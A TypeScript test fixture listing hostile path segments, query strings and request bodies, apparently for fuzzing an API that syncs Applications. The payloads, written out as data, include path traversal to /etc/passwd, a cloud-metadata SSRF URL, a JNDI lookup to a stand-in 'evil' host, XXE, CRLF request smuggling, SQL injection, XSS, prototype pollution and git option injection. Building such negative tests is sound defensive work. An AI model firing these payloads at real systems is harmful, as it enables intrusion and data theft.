/** What steps out of a folder, and names of files and addresses. */
const climbing = [
  '..',
  '.',
  '%2e%2e',
  '.%2E',
  '..%2fclusters',
  '..%2F..%2Fclusters',
  '%2e%2e%2fclusters',
  // Encoded twice and three times, for whoever decodes once too often.
  '..%252fclusters',
  '%252e%252e%252fclusters',
  '%25252e%25252e%25252fclusters',
  '..%5cclusters',
  '..\\clusters',
  '%255c..%255c',
  // Longer than UTF-8 writes them, encoded and as bytes.
  '%c0%ae%c0%ae%c0%afclusters',
  '%e0%80%ae%e0%80%ae%e0%80%afclusters',
  '%f0%80%80%ae%f0%80%80%ae',
  '\u00c0\u00ae\u00c0\u00ae\u00c0\u00afclusters',
  '%u002e%u002e%u2215clusters',
  // What looks like dots and slashes, and what becomes them when it is normalized.
  '%ef%bc%8e%ef%bc%8e%ef%bc%8fclusters',
  '%e2%80%a5%e2%88%95clusters',
  '%e2%80%a4%e2%80%a4%e2%81%84clusters',
  'checkout%2fresource-tree',
  'checkout-dev%2F..%2F..%2Fclusters',
  '/etc/passwd',
  '%2fetc%2fpasswd',
  'file:%2f%2f%2fetc%2fpasswd',
  'http:%2f%2f169.254.169.254%2flatest',
];

/** What ends a segment, a line or a text, and what shells, templates and pages take for more than text. */
const breaking = [
  '%00',
  'checkout%00',
  'checkout%00%2e%2e',
  '%0a',
  '%0d%0aX-Injected:%20yes',
  'checkout%0d%0a%0d%0aDELETE%20%2fapi%2fv1%2fapplications%20HTTP%2f1.1',
  'checkout%3fname=x',
  'checkout%23',
  'checkout%26project=default',
  '%3f',
  '%23',
  '%26',
  '%3d',
  '%',
  '%zz',
  '%e0%a4%a',
  '%ff%fe',
  '%1b%5b31m',
  '%20',
  '%09',
  '+',
  '*',
  '%2a',
  '%7b%7b7*7%7d%7d',
  '$%7bjndi:ldap:%2f%2fevil%2fx%7d',
  "'%20or%20'1'='1",
  '%3cscript%3ealert(1)%3c%2fscript%3e',
  '-1',
  '--all',
  '-o%20json',
];

/** What programs have other ideas about, what looks like something else, and what is too long. */
const confusing = [
  '__proto__',
  '%5f%5fproto%5f%5f',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '0',
  '1e309',
  'true',
  'component',
  'default',
  'CHECKOUT',
  'Checkout-Dev',
  // Letters of other alphabets, and some without width.
  '%d1%81heckout',
  'check%e2%80%8bout',
  '%e2%80%aetuokcehc',
  'check%cc%81out',
  '%f0%9f%92%a9',
  // Parameters of a segment.
  'checkout;name=x',
  ';',
  '..;',
  'a'.repeat(10_000),
  '%2e'.repeat(3_000),
  'a,'.repeat(4_000),
];

/** Values that are wrong in a path, each in its own way, as they go over the network. */
export const HOSTILE_SEGMENTS: readonly string[] = [
  ...climbing,
  ...breaking,
  ...confusing,
];

/**
 * Queries that are wrong, each in its own way.
 *
 * @param name - of a parameter
 */
export function hostileQueries(name: string): string[] {
  return [
    ...HOSTILE_SEGMENTS.map(value => `${name}=${value}`),
    `${name}`,
    `${name}=`,
    `${name}[]=1&${name}[]=2`,
    `${name}[x]=1`,
    `${name}[$ne]=1`,
    `${name}[__proto__][x]=1`,
    `${name}[constructor][prototype][x]=1`,
    `${name}=1&${name}=2`,
    `${name}[length]=1000000`,
    `${name}[1000000]=1`,
    `${name}[a][b][c][d][e][f][g][h][i][j]=1`,
    `__proto__[${name}]=1`,
    `constructor=1`,
    `project=default&${name}=1`,
    `appNamespace=kube-system`,
    `refresh=hard`,
    `_method=DELETE`,
    Array.from({ length: 1_200 }, () => `${name}=1`).join('&'),
  ];
}

/** Bodies that are wrong, each with its content type. */
export function hostileBodies(): [
  string,
  string | undefined,
  string | Buffer,
][] {
  const json = 'application/json';
  return [
    ['nothing', json, ''],
    ['no JSON', json, '{"prune":'],
    ['a list', json, '[]'],
    ['a text', json, '"sync"'],
    ['null', json, 'null'],
    ['a number that is none', json, '{"prune":1e999}'],
    ['an unknown key', json, '{"project":"default"}'],
    ['a name of an Application', json, '{"name":"other","appNamespace":"x"}'],
    [
      'a key that begins like a token again and again',
      json,
      `{"${'eyJ-'.repeat(20_000)}":true}`,
    ],
    ['a prototype', json, '{"__proto__":{"prune":true,"dryRun":false}}'],
    ['a constructor', json, '{"constructor":{"prototype":{"prune":true}}}'],
    ['a key twice', json, '{"dryRun":true,"dryRun":"x"}'],
    ['a revision that climbs', json, '{"revision":"../../main"}'],
    ['a revision that is an option', json, '{"revision":"--upload-pack=x"}'],
    ['a revision with a line break', json, '{"revision":"main\\nx"}'],
    ['a truth in quotes', json, '{"prune":"true","hard":"true"}'],
    ['a resource that is none', json, '{"resources":["../x"]}'],
    [
      'a resource of another Application',
      json,
      '{"resources":["AAAAAAAAAAAAAAAA"]}',
    ],
    [
      'a thousand resources',
      json,
      JSON.stringify({ resources: Array(1_000).fill('AAAAAAAAAAAAAAAA') }),
    ],
    ['an action that climbs', json, '{"action":"../../x"}'],
    ['depth', json, `${'['.repeat(20_000)}${']'.repeat(20_000)}`],
    [
      'depth below a key that is known',
      json,
      `{"kind":"create","values":${'{"a":'.repeat(9_000)}1${'}'.repeat(9_001)}`,
    ],
    ['10 MB', json, JSON.stringify({ revision: 'a'.repeat(10_000_000) })],
    ['a form', 'application/x-www-form-urlencoded', 'prune=true&dryRun=false'],
    [
      'XML',
      'application/xml',
      '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    ],
    ['a plain text', 'text/plain', '{"prune":true}'],
    [
      'JSON under another name',
      'application/json-patch+json',
      '{"prune":true}',
    ],
    ['an unknown charset', 'application/json; charset=utf-7', '{"prune":true}'],
    ['bytes that are no UTF-8', json, Buffer.from([0x7b, 0xff, 0xfe, 0x7d])],
    ['no content type', undefined, '{"prune":true}'],
  ];
}
